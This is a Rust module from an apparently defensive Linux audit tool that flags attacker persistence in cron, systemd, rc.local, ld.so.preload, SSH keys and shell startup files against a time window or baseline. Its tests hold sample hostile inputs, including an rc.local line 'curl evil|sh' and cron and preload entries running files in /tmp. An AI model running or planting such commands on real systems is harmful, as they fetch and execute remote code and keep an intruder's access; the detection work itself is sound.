//! Persistence: the places attackers use to come back (SSH keys, cron,
//! systemd units, `rc.local`, `ld.so.preload`, shell startup files,
//! setuid/setgid programs), classified by path and judged from metadata
//! the application collected: changed inside a time window, or added,
//! changed or removed since a baseline.
//!
//! Paths here are paths on the audited system (`/etc/crontab`), never
//! paths under `--root`.

use std::collections::BTreeMap;

use jiff::Timestamp;
use serde::{Deserialize, Serialize};

use super::{sort_findings, Evidence, Finding};
use crate::event::Severity;

/// At most this many content lines of one item are quoted as evidence.
pub const MAX_EVIDENCE_LINES: usize = 20;

/// What kind of persistence mechanism a path is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// `~/.ssh/authorized_keys`, `authorized_keys2`.
    AuthorizedKeys,
    /// `/etc/crontab`, `/etc/cron.*/*`, `/etc/anacrontab`, spool crontabs.
    Cron,
    /// Units under `/etc/systemd/system` (and `/run`, `/lib` overrides are
    /// not looked at: `/etc` is where an administrator, or an intruder, adds units).
    SystemdUnit,
    /// Per-user units (`~/.config/systemd/user`, `/etc/systemd/user`).
    UserSystemdUnit,
    /// `/etc/rc.local`.
    RcLocal,
    /// `/etc/ld.so.preload`: a library injected into every program.
    LdSoPreload,
    /// `/etc/profile`, `/etc/profile.d/*`, `/etc/bash.bashrc`,
    /// `/etc/environment`, users' `.bashrc`, `.profile`, ...
    ShellStartup,
    /// A setuid or setgid regular file anywhere.
    Setuid,
}

impl Category {
    pub const ALL: [Category; 8] = [
        Category::AuthorizedKeys,
        Category::Cron,
        Category::SystemdUnit,
        Category::UserSystemdUnit,
        Category::RcLocal,
        Category::LdSoPreload,
        Category::ShellStartup,
        Category::Setuid,
    ];

    /// Stable snake_case name, the prefix of finding kinds.
    pub fn as_str(self) -> &'static str {
        match self {
            Category::AuthorizedKeys => "authorized_keys",
            Category::Cron => "cron",
            Category::SystemdUnit => "systemd_unit",
            Category::UserSystemdUnit => "user_systemd_unit",
            Category::RcLocal => "rc_local",
            Category::LdSoPreload => "ld_so_preload",
            Category::ShellStartup => "shell_startup",
            Category::Setuid => "setuid",
        }
    }

    fn describe(self) -> (&'static str, &'static str) {
        match self {
            Category::AuthorizedKeys => ("SSH authorized keys", "SSH 許可鍵"),
            Category::Cron => ("scheduled job (cron)", "定期実行ジョブ（cron）"),
            Category::SystemdUnit => ("systemd unit", "systemd ユニット"),
            Category::UserSystemdUnit => ("user systemd unit", "ユーザー systemd ユニット"),
            Category::RcLocal => ("boot script rc.local", "起動スクリプト rc.local"),
            Category::LdSoPreload => {
                ("library preloaded into every program", "全プログラムに読み込まれるライブラリ設定")
            }
            Category::ShellStartup => ("shell startup file", "シェル起動ファイル"),
            Category::Setuid => ("setuid/setgid program", "setuid/setgid プログラム"),
        }
    }

    /// How bad a change to this kind of item is.
    pub fn severity(self) -> Severity {
        match self {
            Category::LdSoPreload => Severity::Critical,
            Category::ShellStartup => Severity::Medium,
            _ => Severity::High,
        }
    }
}

/// The category of a path on the audited system, or `None` when it is not
/// a persistence location. Setuid files are classified by mode, not path.
pub fn classify(path: &str) -> Option<Category> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let parent = path.rsplit_once('/').map_or("", |(p, _)| p);
    if (name == "authorized_keys" || name == "authorized_keys2") && parent.ends_with("/.ssh") {
        return Some(Category::AuthorizedKeys);
    }
    match path {
        "/etc/rc.local" => return Some(Category::RcLocal),
        "/etc/ld.so.preload" => return Some(Category::LdSoPreload),
        "/etc/crontab" | "/etc/anacrontab" => return Some(Category::Cron),
        "/etc/profile" | "/etc/bash.bashrc" | "/etc/environment" | "/etc/zsh/zshrc"
        | "/etc/zsh/zprofile" => return Some(Category::ShellStartup),
        _ => {}
    }
    let under = |dir: &str| {
        path.strip_prefix(dir).is_some_and(|rest| rest.starts_with('/') && rest.len() > 1)
    };
    if under("/etc/cron.d")
        || under("/etc/cron.hourly")
        || under("/etc/cron.daily")
        || under("/etc/cron.weekly")
        || under("/etc/cron.monthly")
        || under("/var/spool/cron")
    {
        return Some(Category::Cron);
    }
    if under("/etc/systemd/system") {
        return Some(Category::SystemdUnit);
    }
    if under("/etc/systemd/user") || path.contains("/.config/systemd/user/") {
        return Some(Category::UserSystemdUnit);
    }
    if under("/etc/profile.d") {
        return Some(Category::ShellStartup);
    }
    if matches!(
        name,
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".bash_logout"
            | ".profile"
            | ".zshrc"
            | ".zprofile"
            | ".zshenv"
    ) {
        return Some(Category::ShellStartup);
    }
    None
}

/// One item as the application saw it (`lstat`, never following links).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PersistenceItem {
    /// Path on the audited system.
    pub path: String,
    pub category: Category,
    /// `st_mode` including the file type bits.
    pub mode: u32,
    pub uid: u32,
    pub gid: u32,
    pub size: u64,
    /// Seconds since the epoch.
    pub mtime: i64,
    pub ctime: i64,
    /// SHA-256 of the content (of the target text for a symlink).
    pub sha256: String,
    /// For a symlink, where it points (not followed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub symlink_target: Option<String>,
    /// The first bytes of a text item, for evidence (bounded by the reader).
    #[serde(default, skip)]
    pub content: Option<Vec<u8>>,
}

/// What the baseline remembers of one item.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ItemRecord {
    pub category: Category,
    pub sha256: String,
    pub mode: u32,
    pub uid: u32,
    pub gid: u32,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub symlink_target: Option<String>,
}

impl From<&PersistenceItem> for ItemRecord {
    fn from(item: &PersistenceItem) -> Self {
        ItemRecord {
            category: item.category,
            sha256: item.sha256.clone(),
            mode: item.mode,
            uid: item.uid,
            gid: item.gid,
            symlink_target: item.symlink_target.clone(),
        }
    }
}

/// The persistence items as seen now: what `--baseline` stores.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PersistenceSnapshot {
    pub taken_at: Option<Timestamp>,
    pub items: BTreeMap<String, ItemRecord>,
}

impl PersistenceSnapshot {
    /// A snapshot of `items` taken at `now`.
    pub fn new(items: &[PersistenceItem], now: Timestamp) -> PersistenceSnapshot {
        PersistenceSnapshot {
            taken_at: Some(now),
            items: items.iter().map(|i| (i.path.clone(), ItemRecord::from(i))).collect(),
        }
    }
}

/// Judges `items`: those whose mtime or ctime is at or after
/// `window_start` are reported as recent; with a baseline, items added,
/// changed (content, mode, owner, link target) or removed are reported.
/// A non-empty `/etc/ld.so.preload` and world-writable items are always
/// reported.
pub fn assess(
    items: &[PersistenceItem],
    window_start: Option<Timestamp>,
    baseline: Option<&PersistenceSnapshot>,
) -> Vec<Finding> {
    let mut findings = Vec::new();
    let window = window_start.map(|t| t.as_second());
    for item in items {
        let (what_en, what_ja) = item.category.describe();
        let path = item.path.as_str();
        let evidence = item_evidence(item);
        let record = ItemRecord::from(item);
        let mut reported = false;
        if let Some(base) = baseline {
            match base.items.get(path) {
                None => {
                    findings.push(finding(
                        item,
                        "added",
                        item.category.severity(),
                        format!("{what_en} {path} was added since the baseline"),
                        format!("{what_ja} {path} がベースライン以降に追加されました"),
                        &evidence,
                    ));
                    reported = true;
                }
                Some(old) if *old != record => {
                    let changes = describe_changes(old, &record);
                    findings.push(finding(
                        item,
                        "changed",
                        item.category.severity(),
                        format!("{what_en} {path} changed since the baseline: {changes}"),
                        format!("{what_ja} {path} がベースライン以降に変更されました: {changes}"),
                        &evidence,
                    ));
                    reported = true;
                }
                Some(_) => {}
            }
        }
        if let Some(start) = window {
            if !reported && (item.mtime >= start || item.ctime >= start) {
                let which = if item.mtime >= start {
                    "modified"
                } else {
                    "had its inode changed (ctime; mtime may be backdated)"
                };
                let which_ja = if item.mtime >= start {
                    "変更されました"
                } else {
                    "inode が変更されました（ctime。mtime が偽装されている可能性）"
                };
                findings.push(finding(
                    item,
                    "recent",
                    item.category.severity(),
                    format!("{what_en} {path} {which} within the window"),
                    format!("{what_ja} {path} が調査期間内に{which_ja}"),
                    &evidence,
                ));
            }
        }
        if item.category == Category::LdSoPreload && item.size > 0 {
            findings.push(finding(item, "present", Severity::High, format!("{path} exists and is not empty: every program loads the libraries it names"), format!("{path} が存在し空ではありません: 全てのプログラムが記載のライブラリを読み込みます"), &evidence));
        }
        let is_symlink = item.mode & 0o170000 == 0o120000;
        if item.mode & 0o002 != 0 && !is_symlink {
            findings.push(finding(
                item,
                "world_writable",
                Severity::High,
                format!("{what_en} {path} is writable by every user"),
                format!("{what_ja} {path} は全ユーザーが書き込み可能です"),
                &evidence,
            ));
        }
    }
    if let Some(base) = baseline {
        let now: std::collections::HashSet<&str> = items.iter().map(|i| i.path.as_str()).collect();
        for (path, old) in &base.items {
            if now.contains(path.as_str()) {
                continue;
            }
            let (what_en, what_ja) = old.category.describe();
            findings.push(Finding::new(
                &format!("{}_removed", old.category.as_str()),
                Severity::Low,
                path,
                format!("{what_en} {path} was removed since the baseline"),
                format!("{what_ja} {path} がベースライン以降に削除されました"),
                Evidence::file(
                    path,
                    format!("was sha256={} mode={:o} uid={}", old.sha256, old.mode, old.uid),
                ),
            ));
        }
    }
    sort_findings(&mut findings);
    findings
}

fn finding(
    item: &PersistenceItem,
    change: &str,
    severity: Severity,
    en: String,
    ja: String,
    evidence: &[Evidence],
) -> Finding {
    Finding {
        kind: format!("{}_{change}", item.category.as_str()),
        severity,
        subject: item.path.clone(),
        reason_en: en,
        reason_ja: ja,
        evidence: evidence.to_vec(),
    }
}

fn describe_changes(old: &ItemRecord, new: &ItemRecord) -> String {
    let mut changes = Vec::new();
    if old.sha256 != new.sha256 {
        changes.push("content".to_string());
    }
    if old.mode != new.mode {
        changes.push(format!("mode {:o} → {:o}", old.mode & 0o7777, new.mode & 0o7777));
    }
    if old.uid != new.uid || old.gid != new.gid {
        changes.push(format!("owner {}:{} → {}:{}", old.uid, old.gid, new.uid, new.gid));
    }
    if old.symlink_target != new.symlink_target {
        changes.push(format!("link target {:?} → {:?}", old.symlink_target, new.symlink_target));
    }
    changes.join(", ")
}

/// The item's metadata, then its meaningful content lines (not blank, not
/// comments), at most [`MAX_EVIDENCE_LINES`].
fn item_evidence(item: &PersistenceItem) -> Vec<Evidence> {
    let when = |s: i64| {
        Timestamp::from_second(s)
            .map_or_else(|_| s.to_string(), |t| t.strftime("%Y-%m-%d %H:%M:%S UTC").to_string())
    };
    let mut meta = format!(
        "mode={:o} uid={} gid={} size={} mtime={} ctime={} sha256={}",
        item.mode & 0o7777,
        item.uid,
        item.gid,
        item.size,
        when(item.mtime),
        when(item.ctime),
        item.sha256
    );
    if let Some(target) = &item.symlink_target {
        meta.push_str(&format!(" -> {target}"));
    }
    let mut evidence = vec![Evidence::file(&item.path, meta)];
    if let Some(content) = &item.content {
        let lines = content
            .split(|&b| b == b'\n')
            .enumerate()
            .filter(|(_, l)| {
                let t = String::from_utf8_lossy(l);
                let t = t.trim();
                !t.is_empty() && !t.starts_with('#')
            })
            .take(MAX_EVIDENCE_LINES);
        for (i, line) in lines {
            evidence.push(Evidence::line(
                &item.path,
                u32::try_from(i + 1).unwrap_or(u32::MAX),
                line,
            ));
        }
    }
    evidence
}

#[cfg(test)]
mod tests {
    use super::*;

    fn item(path: &str, mtime: i64, ctime: i64, content: &str) -> PersistenceItem {
        PersistenceItem {
            path: path.to_string(),
            category: classify(path).unwrap_or(Category::Setuid),
            mode: 0o100644,
            uid: 0,
            gid: 0,
            size: content.len() as u64,
            mtime,
            ctime,
            sha256: super::super::sha256_hex(content.as_bytes()),
            symlink_target: None,
            content: Some(content.as_bytes().to_vec()),
        }
    }

    #[test]
    fn classify_knows_the_places() {
        let cases = [
            ("/root/.ssh/authorized_keys", Some(Category::AuthorizedKeys)),
            ("/home/a/.ssh/authorized_keys2", Some(Category::AuthorizedKeys)),
            ("/home/a/authorized_keys", None),
            ("/etc/crontab", Some(Category::Cron)),
            ("/etc/cron.d/evil", Some(Category::Cron)),
            ("/etc/cron.daily/logrotate", Some(Category::Cron)),
            ("/var/spool/cron/crontabs/root", Some(Category::Cron)),
            ("/etc/cron.d", None),
            ("/etc/systemd/system/evil.service", Some(Category::SystemdUnit)),
            (
                "/etc/systemd/system/multi-user.target.wants/evil.service",
                Some(Category::SystemdUnit),
            ),
            ("/home/a/.config/systemd/user/x.service", Some(Category::UserSystemdUnit)),
            ("/etc/rc.local", Some(Category::RcLocal)),
            ("/etc/ld.so.preload", Some(Category::LdSoPreload)),
            ("/etc/profile.d/x.sh", Some(Category::ShellStartup)),
            ("/home/a/.bashrc", Some(Category::ShellStartup)),
            ("/etc/passwd", None),
            ("/usr/bin/ls", None),
        ];
        for (path, want) in cases {
            assert_eq!(classify(path), want, "{path}");
        }
    }

    #[test]
    fn window_reports_mtime_and_ctime_only_inside() {
        let start = Timestamp::from_second(1_000_000).unwrap();
        let items = [
            item("/etc/cron.d/new", 1_000_500, 1_000_500, "* * * * * root /tmp/x\n"),
            item("/etc/cron.d/backdated", 10, 1_000_001, "# c\n\n@reboot root /tmp/y\n"),
            item("/etc/cron.d/old", 10, 10, "x"),
        ];
        let f = assess(&items, Some(start), None);
        let subjects: Vec<&str> = f.iter().map(|f| f.subject.as_str()).collect();
        assert_eq!(subjects, ["/etc/cron.d/backdated", "/etc/cron.d/new"]);
        assert!(f.iter().all(|f| f.kind == "cron_recent" && f.severity == Severity::High));
        let backdated = &f[0];
        assert!(backdated.reason_en.contains("ctime"), "{}", backdated.reason_en);
        // Comments and blank lines are not quoted; the real line keeps its number.
        assert_eq!(backdated.evidence[1].line, Some(3));
        assert_eq!(backdated.evidence[1].text, "@reboot root /tmp/y");
    }

    #[test]
    fn baseline_reports_added_changed_removed() {
        let t = Timestamp::from_second(0).unwrap();
        let before = [item("/etc/rc.local", 1, 1, "a"), item("/etc/crontab", 1, 1, "b")];
        let base = PersistenceSnapshot::new(&before, t);
        let mut changed = item("/etc/rc.local", 1, 1, "a; curl evil|sh");
        changed.mode = 0o100777;
        let after = [changed, item("/etc/ld.so.preload", 1, 1, "/tmp/x.so\n")];
        let f = assess(&after, None, Some(&base));
        let kinds: Vec<&str> = f.iter().map(|f| f.kind.as_str()).collect();
        assert_eq!(
            kinds,
            [
                "ld_so_preload_added",
                "ld_so_preload_present",
                "rc_local_changed",
                "rc_local_world_writable",
                "cron_removed"
            ]
        );
        assert!(
            f[2].reason_en.contains("content") && f[2].reason_en.contains("644 → 777"),
            "{}",
            f[2].reason_en
        );
        // Nothing changed: nothing reported.
        assert!(assess(&before, None, Some(&base)).is_empty());
    }

    #[test]
    fn snapshot_round_trips_through_json() {
        let snap = PersistenceSnapshot::new(
            &[item("/etc/crontab", 1, 1, "b")],
            Timestamp::from_second(5).unwrap(),
        );
        let json = serde_json::to_string(&snap).unwrap();
        assert_eq!(serde_json::from_str::<PersistenceSnapshot>(&json).unwrap(), snap);
    }
}
